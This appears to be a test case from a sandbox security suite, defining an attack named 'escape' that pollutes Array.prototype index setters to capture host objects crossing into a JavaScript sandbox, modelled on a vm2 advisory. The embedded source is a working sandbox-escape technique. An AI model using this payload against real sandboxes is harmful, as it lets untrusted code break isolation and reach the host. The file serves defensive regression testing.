import { attack } from '../attack.ts';

/** Setters for indices on Array.prototype catch `list[i] = x` on fresh lists (vm2 GHSA-grj5). */
export const escape = attack({
	grants: ['plain', 'direct'],
	source: `
		let got;
		for (let i = 0; i < 8; i++) {
			Object.defineProperty(Array.prototype, i, { configurable: true, set(value) { got ??= loot(value) ?? loot(this); Object.defineProperty(this, i, { value, writable: true, enumerable: true, configurable: true }); } });
		}
		await plain.echo({ list: [1, 2, new Uint8Array(3)] });
		direct.echo(new Map([[1, 2]]));
		console.log('%s', 1, [2]);
		for (let i = 0; i < 8; i++) delete Array.prototype[i];
		return got;
	`,
});
